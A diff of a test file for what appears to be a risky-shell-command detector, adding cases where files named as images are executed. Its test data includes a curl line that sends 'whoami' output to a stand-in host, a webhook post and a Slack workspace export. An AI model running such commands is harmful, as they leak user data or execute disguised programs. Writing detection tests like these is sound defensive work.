@@ -3747,6 +3747,10 @@ describe('the six sets held out last stop and the hundred-and-second, -third and
     // A Makefile's variable in a download's URL is filled in by make; a command's output is sent.
     ['wget https://raw.githubusercontent.com/stripe/openapi/$(OPENAPI_BRANCH)/openapi/spec3.json -P ./embedded/openapi', false],
     ['curl "https://x.example/?d=$(whoami)"', true, 'output of a command'],
+    // A file named as an image run as a program; an image given to a script is data.
+    ['./triple.jpg', true, 'disguised as data'],
+    ['java -jar triple.jpg', true, 'disguised as data'],
+    ['python3 resize.py photo.jpg', false],
     // A webhook given to a program; a Slack workspace exported with the user's token.
     ['./discord.sh --webhook-url="$WEBHOOK" --text "Hello, world!"', true, 'webhook'],
     ['slackdump list channels', true, "chat workspace's messages"],
